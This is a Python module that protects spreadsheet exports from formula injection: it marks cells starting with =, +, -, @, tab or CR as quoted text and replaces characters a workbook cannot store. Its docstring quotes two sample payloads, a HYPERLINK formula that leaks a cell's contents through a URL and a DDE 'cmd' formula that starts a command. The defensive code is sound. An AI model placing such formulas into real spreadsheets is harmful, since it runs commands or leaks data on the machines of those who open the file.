"""Text in spreadsheets stays text: never read as a formula (OWASP, CSV/formula injection).

A citizen's title such as ``=HYPERLINK("http://…?leak="&A2,"点击查看")`` or ``=cmd|' /C calc'!A0``
must reach the ledger's reader as those characters. openpyxl stores any string beginning with
``=`` as a formula; Excel and LibreOffice also start one at ``+``, ``-`` and ``@``, and tab or
CR in front hides the rest. Such cells are written as text (cell type ``s``) with Excel's quote
prefix — what typing a leading apostrophe does — so the text is unchanged, shown as typed and
stays text when the cell is edited. The server's ledger and the desk's exports both use this.

Some characters a workbook cannot hold at all: XML 1.0 has no C0 control but tab, LF and CR,
no lone surrogate and no U+FFFE/U+FFFF. openpyxl refuses the controls with an error (one
``\x1b`` pasted into a title failed the whole month's ledger and bulletin with a 500) and writes
the others into a file Excel will not open. Rows pass through :func:`writable_row` first, which
puts U+FFFD in their place.
Pure: the cells are duck-typed (openpyxl's ``Cell``), nothing is imported.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: What an .xlsx cannot store (XML 1.0's excluded characters).
UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def writable(value: object) -> object:
    """``value`` as a cell can hold it: a character a workbook cannot store becomes U+FFFD."""
    return UNWRITABLE.sub("\ufffd", value) if isinstance(value, str) else value


def writable_row(values: Iterable[object]) -> list[object]:
    """A row of values for ``sheet.append``, each one :func:`writable`."""
    return [writable(value) for value in values]


def formula_like(value: object) -> bool:
    """Whether a spreadsheet could read this value as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def keep_as_text(rows: Iterable[Iterable[Any]]) -> int:
    """Mark every formula-like text cell of ``rows`` (openpyxl cells) as text; how many were."""
    marked = 0
    for row in rows:
        for cell in row:
            if formula_like(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True
                marked += 1
    return marked


__all__ = ["FORMULA_TRIGGERS", "UNWRITABLE", "formula_like", "keep_as_text", "writable", "writable_row"]
